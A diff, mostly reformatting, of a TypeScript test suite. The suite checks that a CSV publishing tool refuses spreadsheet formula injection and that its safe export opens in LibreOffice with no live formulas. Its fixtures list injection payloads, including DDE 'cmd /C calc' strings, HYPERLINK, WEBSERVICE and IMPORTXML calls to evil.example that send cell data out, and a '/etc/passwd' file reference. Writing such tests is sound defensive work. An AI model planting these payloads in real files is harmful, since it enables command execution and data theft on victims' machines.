@@ -16,22 +16,80 @@ import { parseTable, plainDialect } from '../../src/sources/csv.ts';
 import { parseDescriptor } from '../../src/sources/descriptor.ts';
 import { payloads } from '../fixtures/payloads.ts';
 
-const office = ['soffice', 'libreoffice'].find((command) => spawnSync('which', [command]).status === 0);
-if (!office) console.warn('NOT TESTED: the published CSV in a spreadsheet; LibreOffice is not installed.');
+const office = ['soffice', 'libreoffice'].find(
+  (command) => spawnSync('which', [command]).status === 0,
+);
+if (!office)
+  console.warn('NOT TESTED: the published CSV in a spreadsheet; LibreOffice is not installed.');
 const folder = mkdtempSync(join(tmpdir(), 'waymark-spreadsheet-'));
 afterAll(() => rmSync(folder, { recursive: true, force: true }));
 
-const strangers = join(import.meta.dirname, '../../../shared/real/csv-torture/csv-injection/Intruder/csv-payload.txt');
-if (!existsSync(strangers)) console.warn('NOT TESTED: the formula payloads of strangers; ../shared is not there.');
+const strangers = join(
+  import.meta.dirname,
+  '../../../shared/real/csv-torture/csv-injection/Intruder/csv-payload.txt',
+);
+if (!existsSync(strangers))
+  console.warn('NOT TESTED: the formula payloads of strangers; ../shared is not there.');
 
 const formulas = [
-  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example/?"&A1,"open")', '=WEBSERVICE("https://evil.example")', '=IMPORTXML("https://evil.example","//a")', '=DDE("cmd";"/C calc";"x")',
-  '-2+3+cmd|\' /C calc\'!D2', '+A1', '-A1', ' =1+1', '   =1+1', '\t=1+1', '\n=1+1', '\r=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=\u200b1', '"=1+1"', ';=1+1', '{=1+1}', '=1+1;=2+2', '-1-1', '+-1', '@x', '=A1', '=\'file:///etc/passwd\'#$x.A1',
-  ...(existsSync(strangers) ? readFileSync(strangers, 'utf8').split(/\r?\n/).filter((line) => line !== '') : []),
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example/?"&A1,"open")',
+  '=WEBSERVICE("https://evil.example")',
+  '=IMPORTXML("https://evil.example","//a")',
+  '=DDE("cmd";"/C calc";"x")',
+  "-2+3+cmd|' /C calc'!D2",
+  '+A1',
+  '-A1',
+  ' =1+1',
+  '   =1+1',
+  '\t=1+1',
+  '\n=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=\u200b1',
+  '"=1+1"',
+  ';=1+1',
+  '{=1+1}',
+  '=1+1;=2+2',
+  '-1-1',
+  '+-1',
+  '@x',
+  '=A1',
+  "='file:///etc/passwd'#$x.A1",
+  ...(existsSync(strangers)
+    ? readFileSync(strangers, 'utf8')
+        .split(/\r?\n/)
+        .filter((line) => line !== '')
+    : []),
 ];
-const numbers = ['1', '-5.2', '+5.2', '0', '-0', '007', '1e5', '-1e-5', '+12', '3.14159', '-1000000', '12345678901234'];
+const numbers = [
+  '1',
+  '-5.2',
+  '+5.2',
+  '0',
+  '-0',
+  '007',
+  '1e5',
+  '-1e-5',
+  '+12',
+  '3.14159',
+  '-1000000',
+  '12345678901234',
+];
 
-interface Cell { formula: string | undefined; type: string | undefined; value: string | undefined; text: string }
+interface Cell {
+  formula: string | undefined;
+  type: string | undefined;
+  value: string | undefined;
+  text: string;
+}
 type Node = Record<string, unknown>;
 
 /** The cells of the first sheet, row by row, as the spreadsheet took them. */
@@ -39,63 +97,146 @@ function open(csv: string, name: string): Cell[][] {
   mkdirSync(folder, { recursive: true });
   writeFileSync(join(folder, `${name}.csv`), csv);
   // Comma, double quote, UTF-8, and everything else as a double click has it: numbers and formulas are looked for.
-  const { status, stderr } = spawnSync(office!, [`-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`, '--headless', '--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1,true', '--convert-to', 'fods', '--outdir', folder, join(folder, `${name}.csv`)], { encoding: 'utf8', timeout: 240_000 });
+  const { status, stderr } = spawnSync(
+    office!,
+    [
+      `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
+      '--headless',
+      '--infilter=Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,false,false,false,-1,true',
+      '--convert-to',
+      'fods',
+      '--outdir',
+      folder,
+      join(folder, `${name}.csv`),
+    ],
+    { encoding: 'utf8', timeout: 240_000 },
+  );
   expect(status, stderr).toBe(0);
-  const parser = new XMLParser({ ignoreAttributes: false, preserveOrder: true, trimValues: false, parseTagValue: false, parseAttributeValue: false, processEntities: true });
-  const rows = find(parser.parse(readFileSync(join(folder, `${name}.fods`), 'utf8')) as Node[], 'table:table-row');
-  return rows.map((row) => inner(row, 'table:table-row').filter((cell) => 'table:table-cell' in cell).flatMap((cell) => {
-    const attributes = (cell[':@'] ?? {}) as Record<string, string>;
-    const one = { formula: attributes['@_table:formula'], type: attributes['@_office:value-type'], value: attributes['@_office:value'], text: find(inner(cell, 'table:table-cell'), 'text:p').map((part) => toText(inner(part, 'text:p'))).join('\n') };
-    return Array.from({ length: Math.min(20, Number(attributes['@_table:number-columns-repeated'] ?? 1)) }, () => one);
-  }));
+  const parser = new XMLParser({
+    ignoreAttributes: false,
+    preserveOrder: true,
+    trimValues: false,
+    parseTagValue: false,
+    parseAttributeValue: false,
+    processEntities: true,
+  });
+  const rows = find(
+    parser.parse(readFileSync(join(folder, `${name}.fods`), 'utf8')) as Node[],
+    'table:table-row',
+  );
+  return rows.map((row) =>
+    inner(row, 'table:table-row')
+      .filter((cell) => 'table:table-cell' in cell)
+      .flatMap((cell) => {
+        const attributes = (cell[':@'] ?? {}) as Record<string, string>;
+        const one = {
+          formula: attributes['@_table:formula'],
+          type: attributes['@_office:value-type'],
+          value: attributes['@_office:value'],
+          text: find(inner(cell, 'table:table-cell'), 'text:p')
+            .map((part) => toText(inner(part, 'text:p')))
+            .join('\n'),
+        };
+        return Array.from(
+          { length: Math.min(20, Number(attributes['@_table:number-columns-repeated'] ?? 1)) },
+          () => one,
+        );
+      }),
+  );
 }
 const inner = (node: Node, name: string): Node[] => node[name] as Node[];
 function find(nodes: readonly Node[], name: string): Node[] {
-  return nodes.flatMap((node) => (name in node ? [node] : Object.values(node).flatMap((part) => (Array.isArray(part) ? find(part as Node[], name) : []))));
+  return nodes.flatMap((node) =>
+    name in node
+      ? [node]
+      : Object.values(node).flatMap((part) =>
+          Array.isArray(part) ? find(part as Node[], name) : [],
+        ),
+  );
 }
 function toText(nodes: readonly Node[]): string {
-  return nodes.map((node) => {
-    const attributes = (node[':@'] ?? {}) as Record<string, string>;
-    if ('#text' in node) return String(node['#text']);
-    if ('text:s' in node) return ' '.repeat(Number(attributes['@_text:c'] ?? 1));
-    if ('text:tab' in node) return '\t';
-    return Object.values(node).map((part) => (Array.isArray(part) ? toText(part as Node[]) : '')).join('');
-  }).join('');
+  return nodes
+    .map((node) => {
+      const attributes = (node[':@'] ?? {}) as Record<string, string>;
+      if ('#text' in node) return String(node['#text']);
+      if ('text:s' in node) return ' '.repeat(Number(attributes['@_text:c'] ?? 1));
+      if ('text:tab' in node) return '\t';
+      return Object.values(node)
+        .map((part) => (Array.isArray(part) ? toText(part as Node[]) : ''))
+        .join('');
+    })
+    .join('');
 }
 
 const plain = (text: string) => text.replace(/\s+/g, ' ').trim();
 
 describe.skipIf(!office)('a spreadsheet (LibreOffice) that opens the published CSV', () => {
   test('runs what a stranger wrote, so that its silence elsewhere means something', () => {
-    const cells = open(toCsv(['a'], [['=1+1'], ['=HYPERLINK("https://evil.example","x")']]), 'running').flat();
+    const cells = open(
+      toCsv(['a'], [['=1+1'], ['=HYPERLINK("https://evil.example","x")']]),
+      'running',
+    ).flat();
     expect(cells.filter(({ formula }) => formula !== undefined)).toHaveLength(2);
   }, 300_000);
 
   test('of a register finds no formula: each is refused before it is published, and every other text stays as it is', () => {
     const texts = [...formulas, ...payloads.filter((text) => !/[\0\r]/.test(text))];
-    const resource = parseDescriptor({ resources: [{ name: 'r', path: 'r.csv', waymark: { register: 'terms' } }] }, 'data/datapackage.json').descriptor.resources[0]!;
-    const { table } = parseTable(toCsv(['id', 'term', 'definition'], texts.map((text, index) => [`t-${index}`, 'x', text])), plainDialect, 'data/r.csv');
+    const resource = parseDescriptor(
+      { resources: [{ name: 'r', path: 'r.csv', waymark: { register: 'terms' } }] },
+      'data/datapackage.json',
+    ).descriptor.resources[0]!;
+    const { table } = parseTable(
+      toCsv(
+        ['id', 'term', 'definition'],
+        texts.map((text, index) => [`t-${index}`, 'x', text]),
+      ),
+      plainDialect,
+      'data/r.csv',
+    );
     const typed = parseRows([table!], resource);
-    const faults = [...typed.faults, ...toRecords(typed.rows, typed.resource).faults].filter(({ severity }) => severity === 'error');
+    const faults = [...typed.faults, ...toRecords(typed.rows, typed.resource).faults].filter(
+      ({ severity }) => severity === 'error',
+    );
     const refused = new Set(faults.map(({ line }) => line));
-    const published = table!.rows.filter(({ line }) => !refused.has(line)).map(({ cells }) => [...cells]);
-    expect(new Set(faults.filter(({ code }) => code === 'x-formula').map(({ line }) => line)).size).toBeGreaterThan(20);
+    const published = table!.rows
+      .filter(({ line }) => !refused.has(line))
+      .map(({ cells }) => [...cells]);
+    expect(
+      new Set(faults.filter(({ code }) => code === 'x-formula').map(({ line }) => line)).size,
+    ).toBeGreaterThan(20);
     expect(published.length).toBeGreaterThan(300);
     const opened = open(toCsv(table!.header, published), 'register').slice(1, published.length + 1);
     expect(opened.flat().filter(({ formula }) => formula !== undefined)).toEqual([]);
     // A text that is money in a spreadsheet ("$1") is shown as money.
-    expect(opened.map(([, , cell], index) => [cell?.type, plain(cell?.text ?? ''), plain(published[index]![2]!)]).filter(([type, found, wanted]) => type !== 'currency' && found !== wanted)).toEqual([]);
+    expect(
+      opened
+        .map(([, , cell], index) => [
+          cell?.type,
+          plain(cell?.text ?? ''),
+          plain(published[index]![2]!),
+        ])
+        .filter(([type, found, wanted]) => type !== 'currency' && found !== wanted),
+    ).toEqual([]);
   }, 300_000);
 
-  test('of a stranger\'s table finds none in its safe twin, and alters no honest number', () => {
-    const rows = [...formulas.map((text) => [text, 'formula']), ...numbers.map((text) => [text, 'number'])];
+  test("of a stranger's table finds none in its safe twin, and alters no honest number", () => {
+    const rows = [
+      ...formulas.map((text) => [text, 'formula']),
+      ...numbers.map((text) => [text, 'number']),
+    ];
     const safe = toSafeCsv(['value', 'kind'], rows);
     const opened = open(safe, 'safe').slice(1, rows.length + 1);
     expect(opened.flat().filter(({ formula }) => formula !== undefined)).toEqual([]);
-    expect(formulas.filter((text, index) => ![plain(text), plain(`'${text}`)].includes(plain(opened[index]![0]!.text)))).toEqual([]);
+    expect(
+      formulas.filter(
+        (text, index) => ![plain(text), plain(`'${text}`)].includes(plain(opened[index]![0]!.text)),
+      ),
+    ).toEqual([]);
     const found = opened.slice(formulas.length).map(([cell]) => cell!);
     expect(found.map(({ type }) => type)).toEqual(numbers.map(() => 'float'));
-    expect(found.map(({ value }) => Number(value) + 0)).toEqual(numbers.map((text) => Number(text) + 0));
+    expect(found.map(({ value }) => Number(value) + 0)).toEqual(
+      numbers.map((text) => Number(text) + 0),
+    );
     for (const number of numbers) expect(safe).toContain(`\n${number},number`);
   }, 300_000);
 });
